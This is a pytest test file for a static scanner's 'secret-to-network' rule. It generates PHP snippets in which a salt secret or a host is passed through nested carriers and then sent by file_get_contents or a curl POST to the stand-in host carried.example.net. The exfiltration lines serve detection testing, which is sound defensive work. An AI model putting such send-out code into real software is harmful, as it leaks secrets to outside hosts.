"""Whatever carries a secret, or a host, and however deep it is: the call that sends it is found, and its host named."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from scanner.model.finding import Severity
from scanner.pipeline import ScanOptions, scan
from tests.programs import carriers

_HOST = "carried.example.net"
_SALT = "$GLOBALS['salt']"
_SENDS = {
    "secret": (_SALT, f"file_get_contents('https://{_HOST}/?' . got());"),
    "host": (
        f"'{_HOST}'",
        f"$c = curl_init('https://' . got() . '/'); curl_setopt($c, CURLOPT_POSTFIELDS, {_SALT}); curl_exec($c);",
    ),
}
_GAPS = {("letters", 3, "host"), ("exception", 3, "host"), ("closure kept", 7, "host")}
"""Ways on which the host is `unresolved`: the finding is high, and says so."""


def _programs() -> Iterator[tuple[str, int, str, str]]:
    for what, (value, send) in _SENDS.items():
        for name, way in carriers.RETURNED.items():
            for levels in (0, 3):
                yield name, levels, what, f"<?php\n{carriers.returned(way, levels, value)}{send}\n"
        for name, place in carriers.KEPT.items():
            for levels in (0, 1, 7):
                yield f"{name} kept", levels, what, f"<?php\n{carriers.kept(place, levels, value)}{send}\n"


@pytest.mark.parametrize(
    ("name", "levels", "what", "code"), [pytest.param(*one, id="-".join(map(str, one[:3]))) for one in _programs()]
)
def test_what_is_carried_is_found(name: str, levels: int, what: str, code: str, tmp_path: Path) -> None:
    (tmp_path / "page.php").write_text(code)
    found = [
        one for one in scan(str(tmp_path), ScanOptions(cache=None, jobs=1)).findings if one.rule == "secret-to-network"
    ]
    sent = [one for one in found if one.secrets == ("salt",)]
    if (name, levels, what) in _GAPS:
        assert [one.severity for one in sent] == [Severity.HIGH], "no gap any more: take it from the list"
        return
    assert [one.severity for one in sent] == [Severity.CRITICAL]
    assert _HOST in sent[0].destinations


_PARTS = range(80)
_GIVEN = {
    "list": ("$x['p{n}']", "$given = []; ", "$given['p{n}'] = {x}; "),
    "object": ("$x->p{n}", "$given = new stdClass; ", "$given->p{n} = {x}; "),
}


@pytest.mark.parametrize("kind", _GIVEN)
def test_of_more_parts_than_are_told_apart_none_is_lost(kind: str, tmp_path: Path) -> None:
    read, made, put = _GIVEN[kind]
    kept = " ".join(f"$GLOBALS['g{n}'] = {read.replace('{n}', str(n))};" for n in _PARTS)
    levels = "\n".join(f"function keep{n}($x) {{ keep{n - 1}($x); }}" for n in range(1, 5))
    given = made + "".join(put.replace("{n}", str(n)).replace("{x}", _SALT if n == 79 else "'x'") for n in _PARTS)
    sent = "function go() { file_get_contents('https://carried.example.net/?' . $GLOBALS['g79']); } go();"
    (tmp_path / "page.php").write_text(
        f"<?php\nfunction keep0($x) {{ {kept} }}\n{levels}\n{given}\nkeep4($given);\n{sent}\n"
    )
    found = scan(str(tmp_path), ScanOptions(cache=None, jobs=1)).findings
    assert [one.severity for one in found if one.rule == "secret-to-network"] == [Severity.CRITICAL]
